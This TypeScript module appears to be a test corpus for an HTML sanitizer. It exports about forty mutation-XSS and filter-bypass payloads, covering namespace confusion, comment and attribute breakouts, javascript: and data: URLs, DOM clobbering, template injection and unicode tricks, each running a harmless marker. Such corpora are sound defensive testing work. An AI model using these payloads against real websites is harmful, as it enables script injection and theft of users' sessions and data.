const run = 'window.__pwned=1'

/** Markup that changes its meaning when it is parsed twice, as mutation XSS needs it, and what slips through simple filters. At most 200 characters. */
export const mutations: readonly string[] = [
  // Foreign content that is left again, and text that is none in another namespace.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${run}>"></svg>`,
  `<svg><desc><template><svg><style><a title="</style><img src=1 onerror=${run}>">`,
  `<svg><foreignObject><math><mi><table><mglyph><style><img src=1 onerror=${run}></foreignObject>`,
  `<math><annotation-xml encoding="text/html"><style><img src=1 onerror=${run}></style></annotation-xml>`,
  `<math><mi//xlink:href="data:x,<script>${run}</script>">`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a><animate attributeName=href values="javascript:${run}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${run}</script></svg>#x">`,
  // Elements whose content is text for one parser and markup for the next.
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<template><script>${run}</script></template><textarea><img src=1 onerror=${run}>`,
  `<xmp><p title="</xmp><img src=1 onerror=${run}>">`,
  `<title><a href="</title><img src=x onerror=${run}>"></title>`,
  `<noembed><a title="</noembed><img src=1 onerror=${run}>"></noembed><plaintext>`,
  // Comments that end earlier or later than they seem to.
  `<!--><img src=1 onerror=${run}>--><!--->-->`,
  `<!-- --!><img src=1 onerror=${run}> --><?xml ?><img src=1 onerror=${run}>`,
  // Attributes that are left.
  `"><svg/onload=${run}>//`,
  `' autofocus onfocus=${run} tabindex=1 x='`,
  `<img src="x\` \`<script>${run}</script>"\` \`>`,
  `&quot;&gt;&lt;img src=x onerror=${run}&gt; &#x3c;script&#x3e;${run}&#60;/script>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  // Addresses.
  `<a href="jav&#x0A;ascript:${run}" autofocus onfocus=${run} tabindex=1>x</a>`,
  `<a href="&#1;javascript:${run}">x</a><a href="\\\\example.invalid">y</a>`,
  `<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>parent.__pwned=1</script>"><embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><button formaction="data:text/html,x">x</button></form>`,
  `<base href="http://127.0.0.1:9/"><meta http-equiv=refresh content="0;url=data:text/html,x">`,
  `<link rel=stylesheet href="http://127.0.0.1:9/x.css"><style>@import "http://127.0.0.1:9/y.css";</style>`,
  // Markup that is left open, to carry off what follows.
  `<img src='http://127.0.0.1:9/?`,
  `<table background="http://127.0.0.1:9/"><td style="background:url(http://127.0.0.1:9/)">`,
  // Names that stand for something in a page or a library.
  `<a id=location href="/x"></a><form id=document name=body><input name=attributes><input name=parentNode></form>`,
  `<img name=getElementById><a id=__proto__ name=constructor></a><form id=root><input id=content></form>`,
  // Templates, and characters that are more than they look.
  `';alert(1)//\\';alert(1)//{{constructor.constructor('${run}')()}}`,
  `\${${run}}<%= ${run} %>#{${run}}{% raw %}{{ 7*7 }}{# x #}`,
  `＜script＞${run}＜/script＞\u2028<scrıpt>${run}</scrıpt>\u202e<\ufeffscript>`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
]

/** What a form refuses, and an answer may hold all the same. */
export const unprintable: readonly string[] = [
  `<scr\u0000ipt>${run}</scr\u0000ipt><img src=x o\u0000nerror=${run}>`,
  `<a href="java\u0009script:${run}">x</a>\u0008\u001b[2J`,
]
